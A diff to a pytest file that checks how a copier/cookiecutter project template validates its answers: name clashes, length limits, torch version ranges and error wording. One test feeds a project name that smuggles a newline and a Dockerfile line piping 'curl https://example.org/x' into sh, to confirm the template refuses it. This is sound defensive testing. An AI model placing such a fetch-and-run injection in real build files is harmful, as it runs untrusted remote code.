@@ -5,12 +5,21 @@ Each case goes through the real engines' command lines, copier and cookiecutter.
 
 from __future__ import annotations
 
+import json
 import sys
 import tomllib
 from email.errors import MessageError
 
 import pytest
-from rendering import TEMPLATE, cookiecutter_command, copier_command, run_command
+import yaml
+from checkers import check, tool
+from rendering import (
+    TEMPLATE,
+    cookiecutter_command,
+    copier_command,
+    render_copier,
+    run_command,
+)
 
 sys.path.insert(0, str(TEMPLATE / "hooks"))
 import answers
@@ -42,6 +51,21 @@ BAD_ANSWERS = [
     ({"package_name": "numpy"}, "package_name", "shadows a dependency"),
     ({"package_name": "jsonschema"}, "package_name", "shadows a dependency"),
     ({"package_name": "os"}, "package_name", "shadows a standard-library module"),
+    # Modules of the generated project: its tests import these by name, and the package's
+    # own modules collide with it in its imports (ruff F811).
+    ({"package_name": "conftest"}, "package_name", "clashes with a generated module"),
+    ({"package_name": "correct_modules"}, "package_name", "clashes with a generated"),
+    ({"package_name": "train"}, "package_name", "clashes with a generated module"),
+    (
+        {"package_name": "sharded_checkpoint"},
+        "package_name",
+        "clashes with a generated",
+    ),
+    ({"package_name": "a" * 31}, "package_name", "is too long"),
+    ({"package_name": "a" * 64}, "package_name", "is too long"),
+    ({"project_name": "N" * 300}, "project_name", "is too long"),
+    ({"project_name": "N" * 101}, "project_name", "is too long"),
+    ({"project_slug": "s" * 101}, "project_slug", "is too long"),
     ({"layer_class": "scaled_linear"}, "layer_class", "is not a CamelCase"),
     ({"layer_class": "Scaled_Linear"}, "layer_class", "is not a CamelCase"),
     ({"layer_class": "None"}, "layer_class", "is a Python keyword"),
@@ -53,6 +77,7 @@ BAD_ANSWERS = [
     ({"layer_class": "Any"}, "layer_class", "clashes with a generated name"),
     ({"layer_class": "Layer"}, "layer_class", "clashes with a generated name"),
     ({"layer_class": "ValueError"}, "layer_class", "clashes with a generated name"),
+    ({"layer_class": "L" * 51}, "layer_class", "is too long"),
     ({"author_email": "not-an-email"}, "author_email", "is not an email address"),
     ({"author_email": "a@b"}, "author_email", "is not an email address"),
     ({"author_email": "a b@example.org"}, "author_email", "is not an email address"),
@@ -60,6 +85,9 @@ BAD_ANSWERS = [
     ({"author_email": "a,b<c>@example.org"}, "author_email", "is not an email"),
     ({"torch_min": "two"}, "torch_min", "is not a version"),
     ({"torch_min": "2.1"}, "torch_min", "is older than 2.5"),
+    ({"torch_min": "2.50"}, "torch_min", "is newer than any torch release"),
+    ({"torch_min": "3.0"}, "torch_min", "is newer than any torch release"),
+    ({"torch_min": "2.5.0.1"}, "torch_min", "is not a version"),
 ]
 # Refused by both engines before any validator of the template runs: the message is the
 # engine's own (copier: "Invalid choice"/"Validation error"; cookiecutter: a ValueError).
@@ -72,7 +100,7 @@ REFUSED_BY_THE_ENGINES = [
 
 
 def ids(case):
-    return "-".join(f"{k}={v!r}" for k, v in case[0].items())
+    return "-".join(f"{k}={v[:40]!r}" for k, v in case[0].items())
 
 
 def run_engine(engine: str, tmp_path, given: dict[str, str]):
@@ -100,9 +128,112 @@ def test_bad_answer_is_rejected_with_a_clear_message(tmp_path, engine, case) -> 
     if engine == "copier":
         # The last line of copier's traceback (see the README, "The questions").
         assert f"Validation error for question '{question}': {message}" in output
+        assert output.count("Validation error for question") == 1
     else:
-        assert f"error: {question}: {message}" in output
+        # One message: the first broken rule, not what follows from it (the slug made
+        # from a bad name, the package from a bad slug).
+        errors = [line for line in output.splitlines() if line.startswith("error: ")]
+        assert errors == [f"error: {question}: {message}"]
     assert left == [], f"{engine} left {left} behind"
+
+
+@pytest.mark.parametrize("engine", ["copier", "cookiecutter"])
+def test_slug_made_from_the_name_is_blamed_on_the_name(tmp_path, engine) -> None:
+    """A name that gives no slug: the message says where the slug came from and what to
+    do, rather than blame an empty value the user never typed."""
+    status, output, left = run_engine(engine, tmp_path, {"project_name": "🚀🔥"})
+    assert status != 0
+    assert left == []
+    expected = (
+        "project_slug: is empty; made from the project name unless given, and '🚀🔥' "
+        "has no ASCII letter or digit"
+    )
+    if engine == "copier":
+        assert expected.replace("project_slug: ", "question 'project_slug': ") in output
+    else:
+        assert f"error: {expected}" in output
+    assert "give project_slug explicitly" in output
+    assert "got ''" not in output
+    # A slug made from a name starting with a digit says so too.
+    (message,) = answers.validate(
+        {"project_name": "3D Net", "project_slug": "3d-net"}, CONFIG
+    )
+    assert "made from the project name" in message
+    assert "give project_slug explicitly" in message
+
+
+def test_namespace_passed_as_data_is_refused(tmp_path) -> None:
+    """The computed `cookiecutter` question is every file's namespace: a value passed for
+    it would skip every validator (a newline into the Dockerfile, a package named `os`)
+    and render other answers than .copier-answers.yml records. copier validates a
+    computed question only when a value is passed, and its validator refuses any."""
+    dest = tmp_path / "project"
+    namespace = {
+        "project_name": "Net\nRUN curl https://example.org/x | sh",
+        "project_slug": "my-model",
+        "package_name": "os",
+    }
+    data_file = tmp_path / "data.yml"
+    data_file.write_text(yaml.safe_dump({"cookiecutter": namespace}))
+    options = [
+        ["--data", f"cookiecutter={json.dumps(namespace)}"],
+        ["--data-file", str(data_file)],
+    ]
+    for option in options:
+        result = run_command(copier_command(dest, {}, *option))
+        assert result.returncode != 0
+        assert (
+            "Validation error for question 'cookiecutter': is built from the other "
+            "answers, not given; pass each answer with --data NAME=VALUE"
+        ) in result.stderr
+        assert not dest.exists()
+    # The same name given as an answer is refused by the answer's own validator.
+    result = run_command(copier_command(dest, {"package_name": "os"}))
+    assert "Validation error for question 'package_name'" in result.stderr
+    assert not dest.exists()
+
+
+def test_longest_names_accepted_render_clean(tmp_path) -> None:
+    """At the bounds (package_name 30, layer_class 50 characters) the render passes its
+    own `ruff check` and `ruff format --check`; one character more is refused above."""
+    package, layer = "p" * 30, "L" + "x" * 49
+    assert answers.validate({"package_name": package, "layer_class": layer}) == []
+    project = render_copier(
+        tmp_path / "project", {"package_name": package, "layer_class": layer}
+    )
+    check(tool("ruff"), "check", ".", cwd=project)
+    check(tool("ruff"), "format", "--check", ".", cwd=project)
+
+
+def test_generated_modules_are_read_from_the_generated_project() -> None:
+    names = answers.generated_modules()
+    for name in [
+        *("conftest", "broken_modules", "correct_modules", "test_devcontainer"),
+        *("train", "export", "checkpoint", "optim", "sharded_checkpoint", "noxfile"),
+    ]:
+        assert name in names
+        (message,) = answers.validate({"package_name": name}, CONFIG)
+        assert "clashes with a generated module" in message or "shadows" in message
+
+
+def test_torch_min_range() -> None:
+    """From 2.5 to the newest torch release the template knows, written once."""
+    validator = CONFIG["torch_min"]["validator"]
+    (newest,) = [
+        line.split('"')[1]
+        for line in validator.splitlines()
+        if "torch_newest =" in line
+    ]
+    major, minor, patch = map(int, newest.split("."))
+    for good in ["2.5", "2.5.1", f"{major}.{minor}", newest]:
+        assert answers.validate({"torch_min": good}, CONFIG) == [], good
+    for bad in [
+        f"{major}.{minor}.{patch + 1}",
+        f"{major}.{minor + 1}",
+        f"{major + 1}.0",
+    ]:
+        (message,) = answers.validate({"torch_min": bad}, CONFIG)
+        assert f"the newest is {newest}" in message, bad
 
 
 @pytest.mark.parametrize("given", REFUSED_BY_THE_ENGINES, ids=str)
